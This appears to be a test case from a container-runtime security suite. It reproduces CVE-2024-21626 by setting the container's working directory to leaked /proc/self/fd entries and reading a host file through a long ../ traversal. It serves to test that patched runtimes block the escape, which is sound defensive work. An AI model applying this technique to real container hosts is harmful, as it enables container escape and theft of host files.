# class: leaked fds, odd cwd
# ids: CVE-2024-21626
# patch: fds-kept-and-cwd-unchecked
# The working directory of the configuration leads through fds of the runtime, or of its caller, to the host.
needs_root
script 'cat secret 2>/dev/null; cat ../../../../../../../../../../../..'"$HOST"'/secret 2>/dev/null; true'
for n in 3 4 5 6 7 8 9 10; do
	edit ".process.cwd = \"/proc/self/fd/$n\""
	output=$("$ATTACK" leak 20 "$HOST" timeout 20 "$RUNTIME" --root "$T/state" run --bundle "$BUNDLE" "$ID" 2>&1 </dev/null)
	[[ $output != *secret* ]] || stolen "the secret was read through fd $n"
done
